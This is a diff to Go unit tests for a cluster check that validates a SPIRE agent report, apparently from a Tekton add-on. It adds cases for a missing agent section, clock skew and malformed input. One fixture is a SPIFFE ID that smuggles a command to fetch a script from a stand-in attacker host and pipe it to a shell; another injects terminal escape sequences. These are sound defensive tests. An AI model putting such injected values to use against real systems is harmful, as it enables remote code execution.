@@ -93,6 +93,15 @@ func TestCheckReport(t *testing.T) {
 			func(r *report) { r.Agents.Versions["1.9.0"] = 1 }, cluster.Warning, "SPIRE 1.15 or later\n1.9.0",
 		},
 		"unknown version": {func(r *report) { r.Agents.Versions = nil }, cluster.Fine, "they do not name it"},
+		"not yet asked": {
+			func(r *report) { r.Agents = nil }, cluster.Warning, "has not yet asked SPIRE's server",
+		},
+		"from the future": {
+			func(r *report) { r.Time = now.AddDate(900, 0, 0) }, cluster.Warning, "is from the future",
+		},
+		"a clock that differs a little": {
+			func(r *report) { r.Time = now.Add(time.Minute) }, cluster.Fine, "lets the add-on register TaskRuns",
+		},
 		"stale": {
 			func(r *report) { r.Time = now.Add(-time.Hour) }, cluster.Warning, "no longer reports",
 		},
@@ -112,6 +121,11 @@ func TestCheckReportUnread(t *testing.T) {
 	wantFinding(t, s.check(t), cluster.Warning, "has not yet reported")
 	bad := reportMap(t, &spirecluster.Report{})
 	for name, text := range map[string]string{
+		"a command in its SPIFFE ID": `{"time":"2026-06-02T10:00:00Z","spiffeID":"spiffe://x/y; curl evil.example | sh #"}`,
+		"escape sequences":           `{"spiffeID":"spiffe://x/\u001b[2J"}`,
+		"negative numbers":           `{"agents":{"valid":-1}}`,
+		"many versions":              `{"agents":{"versions":{"1":1,"2":1,"3":1,"4":1,"5":1,"6":1,"7":1,"8":1,"9":1}}}`,
+
 		"not JSON": "{", "too long": `{"error":"` + strings.Repeat("x", 20<<10) + `"}`,
 	} {
 		bad.Data["report"] = text
